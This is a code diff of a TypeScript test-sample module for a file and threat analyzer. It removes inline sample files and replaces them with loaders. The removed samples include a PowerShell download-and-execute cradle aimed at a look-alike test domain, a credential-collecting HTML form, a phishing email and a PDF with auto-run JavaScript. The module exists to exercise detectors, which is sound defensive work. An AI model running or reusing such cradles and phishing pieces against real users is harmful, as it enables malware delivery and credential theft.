@@ -1,3 +1,7 @@
+import { anySample, descriptions, type SampleFile } from '@assay/analyzers/descriptions'
+import { defang } from '@assay/contract'
+import { builtinOf } from '../../model/builtins.ts'
+
 /** Made up: names and addresses of the ranges that are set aside for documentation and tests. */
 const values: Readonly<Record<string, string>> = {
   ip: '198.51.100.77',
@@ -23,89 +27,28 @@ const values: Readonly<Record<string, string>> = {
   other: 'See hxxps://examp1e-bank[.]test and 198[.]51[.]100[.]77',
 }
 
-export const sampleValue = (dataType: string): string | undefined =>
-  values[dataType] ?? (dataType === 'certificate' ? certificate() : undefined)
+export const sampleValue = (dataType: string): string | undefined => values[dataType]
 
-/** Files by the built-in analyzer that reads them; the others get the mail. */
-const files: Readonly<Record<string, () => File>> = {
-  Archive: () =>
-    fileOf(
-      'statement.zip',
-      fromBase64(
-        'UEsDBBQAAAAAAIA5cF1uGkUKGAAAABgAAAAQAAAAc3RhdGVtZW50LnBkZi5qc1dTY3JpcHQuRWNobygnbWFkZSB1cCcpClBLAQIUAxQAAAAAAIA5cF1uGkUKGAAAABgAAAAQAAAAAAAAAAAAAACAAQAAAABzdGF0ZW1lbnQucGRmLmpzUEsFBgAAAAABAAEAPgAAAEYAAAAAAA==',
-      ),
-    ),
-  Certificate: () => fileOf('login.pem', certificate()),
-  Document: () =>
-    fileOf(
-      'statement.pdf',
-      '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
-    ),
-  Executable: () =>
-    fileOf(
-      'statement.bin',
-      fromBase64(
-        'f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAAAAAAAAEAAAAFAAAAAAAAAAAAAAAAAEAAAAAAAAAAQAAAAAAAgAAAAAAAAACAAAAAAAAAAAAQAAAAAAAAsDwx/w8FkJA=',
-      ),
-    ),
-  Page: () =>
-    fileOf(
-      'statement.html',
-      '<form action="https://examp1e-bank.test/collect"><input type="password"></form>\n',
-    ),
-  Script: () =>
-    fileOf(
-      'statement.ps1',
-      'IEX (New-Object Net.WebClient).DownloadString("https://examp1e-bank.test/a")\n',
-    ),
-  Shortcut: () =>
-    fileOf('statement.url', '[InternetShortcut]\r\nURL=https://examp1e-bank.test/login\r\n'),
+/** What a worker can be tried with. */
+export interface Sample {
+  /** As it is shown before it is used. */
+  readonly shown?: string
+  readonly load: () => Promise<string | File>
 }
 
-/** Nothing is made up for what has a shape of its own: pictures with codes, notebooks. */
-const withoutSample = ['Qr', 'OneNote']
-
-export function sampleFile(definitionId: string): File | undefined {
-  const own = /^Assay_(\w+?)(?:_\d+)+$/.exec(definitionId)?.[1] ?? ''
-  if (withoutSample.includes(own)) return undefined
-  return (files[own] ?? mail)()
+/** Undefined where nothing is made up: such as of pictures with codes, which have a shape of their own. */
+export function sampleOf(definitionId: string, dataType: string): Sample | undefined {
+  const value = sampleValue(dataType)
+  if (value !== undefined) return { shown: defang(dataType, value), load: async () => value }
+  if (dataType === 'file') {
+    const builtin = builtinOf(definitionId)
+    const load = builtin ? builtin.sample : anySample
+    return load && { load: async () => fileOf((await load()).sample) }
+  }
+  // What is written into a file as it is, such as a certificate.
+  const load = descriptions.find(({ dataTypes }) => dataTypes.includes(dataType))?.sample
+  return load && { load: async () => await fileOf((await load()).sample).text() }
 }
 
-const mail = () =>
-  fileOf(
-    'account locked.eml',
-    [
-      'From: "Example Bank" <security@example.com>',
-      'Reply-To: help@examp1e-bank.test',
-      'To: ada@example.com',
-      'Subject: Your account is locked',
-      'Date: Mon, 16 Nov 2026 07:12:40 +0000',
-      'Message-ID: <1@mailer.test>',
-      'MIME-Version: 1.0',
-      'Content-Type: text/html; charset=utf-8',
-      '',
-      '<p><a href="https://examp1e-bank.test/verify">https://www.example.com/signin</a></p>',
-      '',
-    ].join('\r\n'),
-  )
-
-const certificate = () =>
-  [
-    '-----BEGIN CERTIFICATE-----',
-    'MIIBmDCCAT+gAwIBAgIUaWFdZy8+XrcM/aXPxo+6R1V+7GowCgYIKoZIzj0EAwIw',
-    'IjEgMB4GA1UEAwwXbG9naW4uZXhhbXBsZS1iYW5rLnRlc3QwHhcNMjYxMTE3MDY1',
-    'ODQxWhcNMjYxMjE3MDY1ODQxWjAiMSAwHgYDVQQDDBdsb2dpbi5leGFtcGxlLWJh',
-    'bmsudGVzdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABJJjiaAxwi+AN5v5bW1O',
-    'FqAlHYqYuWxP8679eGbRoFK2jIUVYaj63TYhEtSF1mvbi3HQfAeOWL9gNC8uFMbd',
-    'yYmjUzBRMB0GA1UdDgQWBBTFmWxxLDJqfyYSsbs23ir9jWbbfTAfBgNVHSMEGDAW',
-    'gBTFmWxxLDJqfyYSsbs23ir9jWbbfTAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49',
-    'BAMCA0cAMEQCIB9/4ZQ9Y7Uzco5Ye53U+3t4M4rsRVwl2V860k9UpI0MAiAc22uC',
-    'tTJ/RrsE7kXj8OB8dJHQ9qBc4aZzgtZ9glvxjA==',
-    '-----END CERTIFICATE-----',
-    '',
-  ].join('\n')
-
-const fileOf = (name: string, content: string | Uint8Array<ArrayBuffer>) =>
-  new File([content], name)
-
-const fromBase64 = (text: string) => Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0))
+const fileOf = ({ filename, contentType, content }: SampleFile) =>
+  new File([content], filename, { type: contentType })
